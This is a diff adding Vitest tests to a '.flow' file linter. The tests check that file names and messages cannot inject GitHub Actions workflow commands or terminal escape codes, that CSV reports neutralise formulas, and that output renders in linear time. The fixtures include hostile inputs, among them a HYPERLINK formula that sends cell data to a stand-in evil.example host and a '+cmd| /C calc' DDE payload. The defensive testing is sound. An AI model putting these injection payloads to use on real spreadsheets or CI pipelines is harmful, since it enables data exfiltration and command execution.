@@ -86,3 +86,97 @@ describe('symbolic links and special files (FC015)', () => {
     expect(r.out).toMatch(/symbolic link out of the checked folder/);
   });
 });
+
+describe('output injection', () => {
+  it('a file name with a line break never starts a line of pretty output (no ::error:: / ::add-mask:: command)', async () => {
+    const dir = project({ ['x\n::add-mask::ghp_x\n::error::pwned.flow']: 'GOTO nowhere\n' });
+    for (const format of ['pretty', 'github']) {
+      const r = await run(dir, ['check', '.', '--format', format]);
+      expect(r.code).toBe(1);
+      const lines = r.out.split('\n');
+      expect(lines.filter((l) => l.startsWith('::add-mask') || l.startsWith('::error::pwned'))).toEqual([]);
+      if (format === 'pretty') expect(r.out).toContain('x\\u000a::add-mask::');
+    }
+  });
+
+  it('a message quoting a line break (an OperationId) stays one line in pretty output', async () => {
+    const { renderPretty } = await import('../src/diagnostics/render-pretty.js');
+    const { locate } = await import('../src/diagnostics/located.js');
+    const doc = { path: 'a.flow', absolutePath: '/a.flow', text: 'SET a TO 1\n', origin: 'file' as const };
+    const located = locate([{ doc, diagnostics: [{ rule: 'FC103', severity: 'error', span: { start: 0, end: 3 }, message: "unknown operation 'Get\n::add-mask::secret'", help: 'x\n::error::y' }] }], [doc]);
+    const out = renderPretty(located, { files: 1, errors: 1, warnings: 0, infos: 0 }, { color: false, ruleName: () => undefined });
+    expect(out.split('\n').some((l) => l.startsWith('::'))).toBe(false);
+  });
+
+  it('--format github passes no ESC, BEL or U+202E through', async () => {
+    const dir = project({ ['evil\u001b[31m\u0007\u202eflow.flow']: 'GOTO nowhere\n' });
+    const r = await run(dir, ['check', '.', '--format', 'github']);
+    expect(r.code).toBe(1);
+    expect(r.out).not.toMatch(/[\u001b\u0007\u202e]/);
+    expect(r.out).toContain('\\u001b');
+  });
+
+  it('the CSV report neutralises formulas (OWASP): a flow named =HYPERLINK(…), an owner +cmd|…', async () => {
+    const dir = project({
+      'a.flow': `FLOW '=HYPERLINK("http://evil.example/?"&A1,"click")'\n    SCHEMA V2\n    OWNER '+cmd|\\' /C calc\\'!A0'\nEND FLOW\nSET a TO 1\nDisplay.ShowMessageDialog.ShowMessage Message: a\n`,
+      'b.flow': "FLOW '@SUM(1+1)\u001b]0;title\u0007'\n    SCHEMA V2\n    OWNER '-2+3'\nEND FLOW\nSET a TO 1\nDisplay.ShowMessageDialog.ShowMessage Message: a\n",
+    });
+    const r = await run(dir, ['report', '--format', 'csv']);
+    expect(r.code, r.err).toBe(0);
+    const cells = r.out.split('\r\n').slice(1).filter(Boolean).flatMap((row) => row.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
+    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
+    expect(r.out).toContain(`"'=HYPERLINK(`);
+    expect(r.out).toContain(`"'+cmd|`);
+    expect(r.out).toContain(`"'-2+3"`);
+    expect(r.out).not.toMatch(/[\u001b\u0007]/);
+  });
+});
+
+describe('no exit 3 from input alone', () => {
+  it('EXIT followed by 130,000 statements: the pretty renderer shows the FC007 span without spreading its lines', async () => {
+    // The renderer alone (the whole check of such a flow is slow on a shared CI runner): a span
+    // over 200,000 lines, as FC007 reports after EXIT.
+    const { renderPretty } = await import('../src/diagnostics/render-pretty.js');
+    const { locate, summarize } = await import('../src/diagnostics/located.js');
+    const text = `EXIT\n${'SET a TO 1\n'.repeat(200_000)}`;
+    const doc = { path: 'exit.flow', absolutePath: '/exit.flow', text, origin: 'file' as const };
+    const located = locate([{ doc, diagnostics: [{ rule: 'FC007', severity: 'warning', span: { start: 5, end: text.length - 1 }, message: 'unreachable' }] }], [doc]);
+    const out = renderPretty(located, summarize(located, 1), { color: false, ruleName: () => 'unreachable-code' });
+    expect(out).toMatch(/exit\.flow:2:1 warning FC007/);
+    expect(out.split('\n').length).toBeLessThan(30);
+  });
+
+  it('a 6,000,000-character run of one letter in a secret-named literal does not overflow the secret check', async () => {
+    const dir = project({ 'run.flow': `SET Password TO '${'a'.repeat(6_000_000)}'\nDisplay.ShowMessageDialog.ShowMessage Message: Password\n` });
+    const r = await run(dir, ['check', 'run.flow', '--format', 'json']);
+    expect(r.err).toBe('');
+    expect(r.code).toBe(0);
+  }, 120_000);
+});
+
+describe('pretty output is linear in the number of diagnostics', () => {
+  it('20,000 one-line errors: pretty takes at most twice the time of json (and json is not the slow part)', async () => {
+    const { renderPretty } = await import('../src/diagnostics/render-pretty.js');
+    const { renderJson } = await import('../src/diagnostics/render-json.js');
+    const { locate, summarize } = await import('../src/diagnostics/located.js');
+    const text = Array.from({ length: 20_000 }, (_, i) => `GOTO nowhere${i}`).join('\n');
+    const doc = { path: 'many.flow', absolutePath: '/many.flow', text, origin: 'file' as const };
+    let at = 0;
+    const diagnostics = text.split('\n').map((line) => {
+      const d = { rule: 'FC004', severity: 'error' as const, span: { start: at, end: at + line.length }, message: `no label '${line.slice(5)}'`, help: 'add the label' };
+      at += line.length + 1;
+      return d;
+    });
+    const located = locate([{ doc, diagnostics }], [doc]);
+    const summary = summarize(located, 1);
+    const time = (f: () => string): number => {
+      const t = performance.now();
+      f();
+      return performance.now() - t;
+    };
+    const pretty = time(() => renderPretty(located, summary, { color: false, ruleName: () => 'unknown-label' }));
+    const json = time(() => renderJson(located, summary));
+    // Quadratic rendering took ~15 s here; linear takes well under one.
+    expect(pretty).toBeLessThan(Math.max(2 * json, 3000));
+  }, 120_000);
+});
